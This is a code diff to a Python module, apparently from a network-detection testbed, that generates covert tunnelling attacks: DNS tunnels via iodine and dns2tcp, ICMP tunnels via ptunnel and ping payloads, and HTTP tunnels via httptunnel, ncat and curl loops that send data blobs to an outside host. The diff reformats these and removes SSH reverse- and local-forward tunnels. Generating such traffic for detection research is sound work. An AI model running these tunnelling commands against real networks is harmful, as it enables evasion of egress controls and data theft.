@@ -1,6 +1,6 @@
-"""Protocols inside others: DNS, ICMP, HTTP and SSH that carry something else."""
+"""Protocols inside DNS, ICMP and HTTP."""
 
-from testbed.attacks.material import (INSIDE, SSH, blob, key_of, listening, maybe, pause, program, serving, text, words, zone)
+from testbed.attacks.material import INSIDE, blob, listening, maybe, pause, program, serving, text, words, zone
 from testbed.catalogue import Assault, Evidence, attack
 
 DNS = "T1071.004"
@@ -26,31 +26,69 @@ def through_names(name: str) -> tuple[Evidence, ...]:
     return (Evidence("udp", query_suffixes=(name,)),)
 
 
-@attack("tunnel_dns", technique=DNS, tool="iodine", origins=INSIDE, needs=("dns", "outside:zones"), packages=("iodine", "curl"), seconds=75)
+@attack(
+    "tunnel_dns",
+    technique=DNS,
+    tool="iodine",
+    origins=INSIDE,
+    needs=("dns", "outside:zones"),
+    packages=("iodine", "curl"),
+    seconds=75,
+)
 def iodine(c):
     (name, names_port), net, port = zone(c), f"10.{c.between(90, 250)}.{c.between(0, 250)}", c.between(5000, 9000)
     secret = f"p{c.between(1000, 10**9)}"
-    server = f"bash -c '{web_server(c, port)} & exec iodined -f -c -l 127.0.0.1 -p {names_port} -P {secret} {net}.1 {name}'"
-    client = words("iodine -f -r", f"-P {secret} -T {c.choose('NULL', 'TXT', 'CNAME', 'MX', 'SRV', 'PRIVATE')}",
-                   f"-M {c.between(110, 230)} -L{c.choose(0, 1)} -I {c.between(1, 6)}", maybe(c, 0.4, f"-m {c.between(150, 900)}"),
-                   maybe(c, 0.3, f"-O {c.choose('base32', 'base64')}"), c.server("dns").address, name)
+    server = (
+        f"bash -c '{web_server(c, port)} & exec iodined -f -c -l 127.0.0.1 -p {names_port} -P {secret} {net}.1 {name}'"
+    )
+    client = words(
+        "iodine -f -r",
+        f"-P {secret} -T {c.choose('NULL', 'TXT', 'CNAME', 'MX', 'SRV', 'PRIVATE')}",
+        f"-M {c.between(110, 230)} -L{c.choose(0, 1)} -I {c.between(1, 6)}",
+        maybe(c, 0.4, f"-m {c.between(150, 900)}"),
+        maybe(c, 0.3, f"-O {c.choose('base32', 'base64')}"),
+        c.server("dns").address,
+        name,
+    )
     use = errands(c, f"http://{net}.1:{port}", 26_000, 3)
-    return Assault(f"{client} & tunnel=$!; for wait in $(seq 30); do ping -q -c1 -W1 {net}.1 >/dev/null && break; done;"
-                   f" ping -q -c {c.between(2, 9)} -i {c.between(0.3, 1.0)} {net}.1; {use}; kill $tunnel; sleep 1",
-                   evidence=through_names(name), **serving(name, names_port, server, c))
+    return Assault(
+        f"{client} & tunnel=$!; for wait in $(seq 30); do ping -q -c1 -W1 {net}.1 >/dev/null && break; done;"
+        f" ping -q -c {c.between(2, 9)} -i {c.between(0.3, 1.0)} {net}.1; {use}; kill $tunnel; sleep 1",
+        evidence=through_names(name),
+        **serving(name, names_port, server, c),
+    )
 
 
-@attack("tunnel_dns", technique=DNS, tool="dns2tcp", origins=INSIDE, needs=("dns", "outside:zones"), packages=("dns2tcp", "curl"), seconds=70)
+@attack(
+    "tunnel_dns",
+    technique=DNS,
+    tool="dns2tcp",
+    origins=INSIDE,
+    needs=("dns", "outside:zones"),
+    packages=("dns2tcp", "curl"),
+    seconds=70,
+)
 def dns2tcp(c):
     (name, names_port), port, local = zone(c), c.between(5000, 9000), c.between(10000, 20000)
-    config = c.write("dns2tcpd.conf", f"listen = 127.0.0.1\nport = {names_port}\nuser = nobody\nchroot = /tmp\ndomain = {name}\n"
-                                      f"pid_file = {c.folder}/dns2tcpd.pid\nresources = web:127.0.0.1:{port}\n")
+    config = c.write(
+        "dns2tcpd.conf",
+        f"listen = 127.0.0.1\nport = {names_port}\nuser = nobody\nchroot = /tmp\ndomain = {name}\n"
+        f"pid_file = {c.folder}/dns2tcpd.pid\nresources = web:127.0.0.1:{port}\n",
+    )
     server = f"bash -c '{web_server(c, port)} & exec dns2tcpd -F -d 0 -f {config}'"
-    client = words("dns2tcpc -c -r web -z", name, f"-l {local} -d 0", maybe(c, 0.5, f"-T {c.choose('TXT', 'KEY')}"),
-                   c.server("dns").address)
+    client = words(
+        "dns2tcpc -c -r web -z",
+        name,
+        f"-l {local} -d 0",
+        maybe(c, 0.5, f"-T {c.choose('TXT', 'KEY')}"),
+        c.server("dns").address,
+    )
     use = errands(c, f"http://127.0.0.1:{local}", 10_000, 3)
-    return Assault(f"{client} & tunnel=$!; sleep 2; {use}; kill $tunnel; sleep 1", evidence=through_names(name),
-                   **serving(name, names_port, server, c))
+    return Assault(
+        f"{client} & tunnel=$!; sleep 2; {use}; kill $tunnel; sleep 1",
+        evidence=through_names(name),
+        **serving(name, names_port, server, c),
+    )
 
 
 @attack("tunnel_icmp", technique="T1095", tool="ptunnel", origins=INSIDE, packages=("ptunnel", "curl"), seconds=45)
@@ -58,112 +96,86 @@ def ptunnel(c):
     local, port, outside = c.between(2200, 2999), c.between(5000, 9000), c.network.outside
     secret = maybe(c, 0.4, f"-x key{c.between(1, 10**6)}")
     use = errands(c, f"http://127.0.0.1:{local}", 110_000, 5)
-    return Assault(f"{words('ptunnel -p', outside.address, f'-lp {local} -da 127.0.0.1 -dp {port}', secret)} & tunnel=$!; sleep 2;"
-                   f" {use}; kill $tunnel; sleep 1", **listening(f"{web_server(c, port)} & exec ptunnel {secret}", outside))
+    return Assault(
+        f"{words('ptunnel -p', outside.address, f'-lp {local} -da 127.0.0.1 -dp {port}', secret)} & tunnel=$!; sleep 2;"
+        f" {use}; kill $tunnel; sleep 1",
+        **listening(f"{web_server(c, port)} & exec ptunnel {secret}", outside),
+    )
 
 
-@attack("tunnel_icmp", technique="T1095", tool="ptunnel-ng", origins=INSIDE, packages=("ptunnel-ng", "curl"), seconds=45)
+@attack(
+    "tunnel_icmp", technique="T1095", tool="ptunnel-ng", origins=INSIDE, packages=("ptunnel-ng", "curl"), seconds=45
+)
 def ptunnel_ng(c):
     local, port, outside = c.between(2200, 2999), c.between(5000, 9000), c.network.outside
     magic = maybe(c, 0.5, f"-m{c.between(1, 2**30):x}")
     use = errands(c, f"http://127.0.0.1:{local}", 110_000, 5)
-    return Assault(f"{words(f'ptunnel-ng -p{outside.address} -l{local} -r127.0.0.1 -R{port}', magic)} & tunnel=$!; sleep 2;"
-                   f" {use}; kill $tunnel; sleep 1",
-                   **listening(f"{web_server(c, port)} & exec {words('ptunnel-ng', magic)}", outside))
+    return Assault(
+        f"{words(f'ptunnel-ng -p{outside.address} -l{local} -r127.0.0.1 -R{port}', magic)} & tunnel=$!; sleep 2;"
+        f" {use}; kill $tunnel; sleep 1",
+        **listening(f"{web_server(c, port)} & exec {words('ptunnel-ng', magic)}", outside),
+    )
 
 
 @attack("tunnel_icmp", technique="T1095", tool="ping payload", origins=INSIDE, packages=("iputils-ping",), seconds=50)
 def ping_payload(c):
-    return Assault(f"{blob(c.between(1500, 6000))} | od -An -v -tx1 -w{c.choose(8, 12, 16)} | tr -d ' ' | while read pattern; do ping"
-                   f" -q -n -c1 -W1 -s {c.choose(56, 120, c.between(100, 1200))} -p $pattern {c.network.outside.address};"
-                   f" {pause(c.between(0.0, 0.3))}; done")
+    return Assault(
+        f"{blob(c.between(1500, 6000))} | od -An -v -tx1 -w{c.choose(8, 12, 16)} | tr -d ' ' | while read pattern;"
+        f" do ping -q -n -c1 -W1 -s {c.choose(56, 120, c.between(100, 1200))} -p $pattern {c.network.outside.address};"
+        f" {pause(c.between(0.0, 0.3))}; done"
+    )
 
 
-@attack("http_tunnel", technique=ENCAPSULATED, tool="httptunnel", origins=INSIDE, packages=("httptunnel", "ncat"), seconds=45)
+@attack(
+    "http_tunnel",
+    technique=ENCAPSULATED,
+    tool="httptunnel",
+    origins=INSIDE,
+    packages=("httptunnel", "ncat"),
+    seconds=45,
+)
 def httptunnel(c):
-    local, port, inner, outside = c.between(2300, 2999), c.choose(81, 8890, c.between(10000, 30000)), c.between(30001, 40000), c.network.outside
-    lines = "; ".join(f"echo job {c.between(1, 999)} $({text(c.between(20, 900))}); {pause(c.between(0.3, 2.5))}"
-                      for _ in range(c.between(4, 14)))
-    return Assault(f"htc -F {local} {outside.address}:{port} & tunnel=$!; sleep 1; ({lines}) | timeout 35 nc.openbsd -q2 127.0.0.1"
-                   f" {local} >/dev/null; kill $tunnel; sleep 1",
-                   **listening(f"ncat -l -k 127.0.0.1 {inner} -e /bin/cat & exec hts -S -F 127.0.0.1:{inner} {port}", outside))
+    local, port, inner, outside = (
+        c.between(2300, 2999),
+        c.choose(81, 8890, c.between(10000, 30000)),
+        c.between(30001, 40000),
+        c.network.outside,
+    )
+    lines = "; ".join(
+        f"echo job {c.between(1, 999)} $({text(c.between(20, 900))}); {pause(c.between(0.3, 2.5))}"
+        for _ in range(c.between(4, 14))
+    )
+    return Assault(
+        f"htc -F {local} {outside.address}:{port} & tunnel=$!; sleep 1; ({lines}) | timeout 35 nc.openbsd -q2 127.0.0.1"
+        f" {local} >/dev/null; kill $tunnel; sleep 1",
+        **listening(f"ncat -l -k 127.0.0.1 {inner} -e /bin/cat & exec hts -S -F 127.0.0.1:{inner} {port}", outside),
+    )
 
 
 @attack("http_tunnel", technique=ENCAPSULATED, tool="ncat proxy", origins=INSIDE, packages=("ncat",), seconds=40)
 def connect_proxy(c):
     port, inner, outside = c.choose(3128, 8118, c.between(10000, 30000)), c.between(30001, 40000), c.network.outside
     secret = maybe(c, 0.5, f"--proxy-auth u{c.between(1, 99)}:p{c.between(1, 10**6)}")
-    lines = "; ".join(f"{c.choose('echo', 'printf %s')} $({text(c.between(20, 3000))}); {pause(c.between(0.1, 2.0))}"
-                      for _ in range(c.between(4, 16)))
-    return Assault(f"({lines}) | timeout 32 ncat {words('--proxy', f'{outside.address}:{port}', '--proxy-type http', secret)}"
-                   f" 127.0.0.1 {inner} >/dev/null",
-                   **listening(f"ncat -l -k 127.0.0.1 {inner} -e /bin/cat & exec ncat -l -k -p {port} --proxy-type http {secret}",
-                               outside))
+    lines = "; ".join(
+        f"{c.choose('echo', 'printf %s')} $({text(c.between(20, 3000))}); {pause(c.between(0.1, 2.0))}"
+        for _ in range(c.between(4, 16))
+    )
+    return Assault(
+        f"({lines}) | timeout 32 ncat {words('--proxy', f'{outside.address}:{port}', '--proxy-type http', secret)}"
+        f" 127.0.0.1 {inner} >/dev/null",
+        **listening(
+            f"ncat -l -k 127.0.0.1 {inner} -e /bin/cat & exec ncat -l -k -p {port} --proxy-type http {secret}", outside
+        ),
+    )
 
 
 @attack("http_tunnel", technique=ENCAPSULATED, tool="curl chunks", origins=INSIDE, packages=("curl",), seconds=45)
 def polled_tunnel(c):
     outside, port = c.network.outside, c.choose(80, 8080, 8008, c.between(10000, 30000))
-    url = f"http://{outside.address}:{port}/{c.choose('index.php', 'api/v1/t', 'news', 'cgi-bin/t')}?s={c.between(1, 10**9):x}"
+    page = c.choose("index.php", "api/v1/t", "news", "cgi-bin/t")
+    url = f"http://{outside.address}:{port}/{page}?s={c.between(1, 10**9):x}"
     body = f"{blob(c.between(40, 1400))} | curl -s -m 8 -X POST --data-binary @- -o /dev/null '{url}'"
-    return Assault(f"for round in $(seq {c.between(15, 70)}); do {body}; {pause(c.between(0.05, 0.6))}; done",
-                   **listening(f"exec {web_server(c, port)}", outside))
-
-
-def ssh_server(c) -> tuple[int, str]:
-    """An SSH server of the attacker's: its port, and the listener that starts it unless there is one already."""
-    if "outside-ssh" in c.network.outside.services and c.chance(0.5):
-        return 22, "exec sleep 300"
-    port = c.between(10000, 40000)
-    start = (f"ssh-keygen -q -t ed25519 -N '' -f hostkey; mkdir -p /run/sshd; exec /usr/sbin/sshd -D -e -f /dev/null -h $PWD/hostkey"
-             f" -p {port} -o PidFile=none -o UseDNS=no -o StrictModes=no -o LogLevel=ERROR -o Subsystem='sftp internal-sftp'")
-    return port, start
-
-
-def own_web(c) -> tuple[str, str]:
-    """A web server inside as a tunnel's end, and one of its pages."""
-    return f"{c.server('web').address}:80", c.choose("/", "/private/", f"{c.conventions.shop}/", "/index.html")
-
-
-@attack("tunnel_ssh", technique=ENCAPSULATED, tool="ssh -R", origins=INSIDE, needs=("web",), packages=("openssh-client", "openssh-server", "curl"), seconds=45)
-def remote_forward(c):
-    (user, key), (port, server), (target, page) = key_of(c), ssh_server(c), own_web(c)
-    back = c.between(15000, 25000)
-    use = (f"for round in $(seq {c.between(4, 12)}); do curl -s -m 5 -o /dev/null http://127.0.0.1:{back}{page};"
-           f" {pause(c.between(0.3, 2.0))}; done")
-    return Assault(words(f"timeout {c.between(22, 38)} ssh {SSH}", key, maybe(c, 0.4, "-C"), f"-o ServerAliveInterval={c.between(2, 15)}",
-                         f"-N -p {port} -R {back}:{target} {user.name}@{c.network.outside.address}"),
-                   **listening(f"(sleep {c.between(4, 7)}; {use}) & {server}", c.network.outside))
-
-
-@attack("tunnel_ssh", technique=ENCAPSULATED, tool="ssh -R socks", origins=INSIDE, needs=("web",),
-        packages=("openssh-client", "openssh-server", "curl"), seconds=45)
-def remote_proxy(c):
-    (user, key), (port, server) = key_of(c), ssh_server(c)
-    back = c.between(15000, 25000)
-    sites = " ".join(f"http://{own_web(c)[0]}{own_web(c)[1]}" for _ in range(c.between(3, 8)))
-    use = (f"for site in {sites}; do curl -s -m 5 -x socks5://127.0.0.1:{back} -o /dev/null $site; {pause(c.between(0.3, 2.0))}; done")
-    return Assault(words(f"timeout {c.between(22, 38)} ssh {SSH}", key, f"-N -p {port} -R {back} {user.name}@{c.network.outside.address}"),
-                   **listening(f"(sleep {c.between(4, 7)}; {use}) & {server}", c.network.outside))
-
-
-@attack("tunnel_ssh", technique=ENCAPSULATED, tool="ssh -L", origins=INSIDE, packages=("openssh-client", "openssh-server", "curl"), seconds=45)
-def local_forward(c):
-    (user, key), (port, server) = key_of(c), ssh_server(c)
-    local, inner = c.between(11000, 19000), c.between(30001, 40000)
-    use = errands(c, f"http://127.0.0.1:{local}", 200_000, 8)
-    return Assault(f"{words(f'ssh {SSH}', key, maybe(c, 0.4, '-C'), f'-N -p {port} -L {local}:127.0.0.1:{inner} {user.name}@{c.network.outside.address}')}"
-                   f" & tunnel=$!; sleep 3; {use}; kill $tunnel; sleep 1",
-                   **listening(f"{web_server(c, inner)} & {server}", c.network.outside))
-
-
-@attack("tunnel_ssh", technique=ENCAPSULATED, tool="dbclient -R", origins=INSIDE, needs=("web",),
-        packages=("dropbear-bin", "openssh-server", "curl"), seconds=45)
-def dropbear_forward(c):
-    user, (port, server), (target, page) = c.user(), ssh_server(c), own_web(c)
-    back = c.between(15000, 25000)
-    use = (f"for round in $(seq {c.between(4, 12)}); do curl -s -m 5 -o /dev/null http://127.0.0.1:{back}{page};"
-           f" {pause(c.between(0.3, 2.0))}; done")
-    return Assault(f"DROPBEAR_PASSWORD='{user.password}' timeout {c.between(22, 38)} dbclient -y -y -N -K {c.between(2, 15)} -p {port}"
-                   f" -R {back}:{target} {user.name}@{c.network.outside.address}",
-                   **listening(f"(sleep {c.between(5, 8)}; {use}) & {server}", c.network.outside))
+    return Assault(
+        f"for round in $(seq {c.between(15, 70)}); do {body}; {pause(c.between(0.05, 0.6))}; done",
+        **listening(f"exec {web_server(c, port)}", outside),
+    )
